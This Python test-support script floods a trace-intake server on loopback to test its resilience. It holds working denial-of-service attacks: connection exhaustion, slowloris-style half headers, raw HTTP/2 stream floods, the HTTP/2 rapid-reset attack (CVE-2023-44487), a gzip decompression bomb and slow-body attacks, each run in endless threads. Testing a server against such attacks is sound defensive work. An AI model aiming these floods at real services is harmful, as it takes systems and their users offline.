"""Harms an intake in one way until it is ended: `flood.py KIND PORT CA TOKEN`. Loopback only."""

from __future__ import annotations

import gzip
import socket
import ssl
import sys
import threading
import time
from collections import deque
from collections.abc import Callable

from tests.support.intake import empty_spans

#: Connections that one of these holds; the system gives a process no more descriptors than some thousand.
_HELD = 8000
_HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
# The type of a frame and its flags: a whole header without a body's end, and a stream's.
_HEADERS, _RESET = b"\x01\x04", b"\x03\0"


def _frame(kind: bytes, stream: int, content: bytes) -> bytes:
    """Of HTTP/2: https://www.rfc-editor.org/rfc/rfc9113#name-frame-format."""
    return len(content).to_bytes(3, "big") + kind + stream.to_bytes(4, "big") + content


def _text(text: str) -> bytes:
    """A text of a header, of fewer than 127 bytes."""
    return bytes([len(text)]) + text.encode()


class Flood:
    """The ways, each a method that goes on for ever."""

    def __init__(self, port: int, authority: str, token: str) -> None:
        self._port, self._token = port, token
        self._context = ssl.create_default_context(cafile=authority)
        self._h2 = ssl.create_default_context(cafile=authority)
        self._h2.set_alpn_protocols(["h2"])

    def idle(self) -> None:
        """Opens connections as fast as it can, and says nothing on any."""
        held: deque[socket.socket] = deque()
        while True:
            if len(held) == _HELD:
                held.popleft().close()
            held.append(self._open())

    def handshakes(self) -> None:
        """The same with an encrypted connection, and half a header."""
        held: deque[ssl.SSLSocket] = deque(maxlen=1000)
        while True:
            secured = self._secure(self._context)
            secured.sendall(b"POST /v1/traces HTTP/1.1\r\nX-A:")
            held.append(secured)

    def streams(self) -> None:
        """Requests without a token, as many on a connection as it takes."""
        # :method POST, :scheme https, :path / (RFC 7541, appendix A), and no end of the stream.
        block = b"\x83\x87\x84"
        while True:
            secured = self._secure(self._h2)
            secured.sendall(_HELLO)
            for stream in range(1, 2001, 2):
                secured.sendall(_frame(_HEADERS, stream, block))
            secured.close()

    def resets(self) -> None:
        """Requests with a token that are taken back at once (CVE-2023-44487)."""
        # As above, but for the path, 4, and authorization, 23: literal, in no table (RFC 7541, 6.2.2).
        block = b"\x83\x87\x04" + _text("/v1/traces") + b"\x0f\x08" + _text(f"Bearer {self._token}")
        while True:
            secured = self._secure(self._h2)
            secured.sendall(_HELLO)
            for first in range(1, 100_001, 200):
                streams = range(first, first + 200, 2)
                secured.sendall(
                    b"".join(
                        _frame(_HEADERS, one, block) + _frame(_RESET, one, b"\0\0\0\x08") for one in streams
                    )
                )
            secured.close()

    def unpacked(self) -> None:
        """8,000,000 empty spans in one small request, with a token."""
        self._post(gzip.compress(empty_spans(8_000_000)), "Content-Encoding: gzip\r\n")

    def tiny(self) -> None:
        """As many empty spans as a request may hold, with a token."""
        self._post(empty_spans(40_000), "")

    def slow(self) -> None:
        """Large bodies with a token, a byte at a time."""
        held: deque[ssl.SSLSocket] = deque(maxlen=200)
        while True:
            secured = self._secure(self._context)
            secured.sendall(self._head(16 * 2**20, "").encode() + b"\x0a" * 70_000)
            held.append(secured)
            for each in held:
                each.sendall(b"\x0a")

    def _post(self, body: bytes, header: str) -> None:
        secured = self._secure(self._context)
        while True:
            secured.sendall(self._head(len(body), header).encode() + body)
            if not secured.recv(65536):
                raise ConnectionError

    def _head(self, length: int, header: str) -> str:
        return (
            f"POST /v1/traces HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {self._token}\r\n{header}"
            f"Content-Type: application/x-protobuf\r\nContent-Length: {length}\r\n\r\n"
        )

    def _open(self) -> socket.socket:
        return socket.create_connection(("127.0.0.1", self._port), timeout=30)

    def _secure(self, context: ssl.SSLContext) -> ssl.SSLSocket:
        return context.wrap_socket(self._open(), server_hostname="localhost")


def forever(way: Callable[[], None]) -> None:
    """Goes on after being thrown out."""
    while True:
        try:
            way()
        except OSError:
            time.sleep(0.001)


if __name__ == "__main__":
    kind, port, authority, token = sys.argv[1:]
    flood = Flood(int(port), authority, token)
    for _ in range(8):
        threading.Thread(target=forever, args=(getattr(flood, kind),), daemon=True).start()
    print("begun", flush=True)
    threading.Event().wait()
